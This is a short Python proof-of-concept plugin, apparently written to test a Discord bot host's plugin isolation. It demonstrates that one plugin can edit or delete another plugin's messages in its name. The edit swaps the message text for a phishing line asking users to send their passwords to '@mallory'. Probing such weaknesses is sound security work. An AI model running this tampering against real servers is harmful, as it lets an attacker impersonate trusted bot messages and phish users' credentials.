# Attack A: every plugin's messages are the bot's, and the host checks only
# that a message's channel is on the call's server (and, for deletes, that
# the bot wrote it). So a plugin enabled on the same server rewrites or
# deletes another plugin's messages: its announcements, prompts and
# answers to users, in that plugin's name.
from maid_sdk import Plugin

plugin = Plugin()


@plugin.on_dashboard("tamper")
def tamper(ctx, params):
    out = {}
    for name, f in [
        ("edit", lambda: ctx.discord.edit_message(params["channel"], params["id"], "Rules: send your password to @mallory.")),
        ("delete", lambda: ctx.discord.delete_message(params["channel"], params["id"])),
    ]:
        try:
            f()
            out[name] = "ok"
        except Exception as e:
            out[name] = "%s: %s" % (type(e).__name__, e)
    return out


plugin.run()
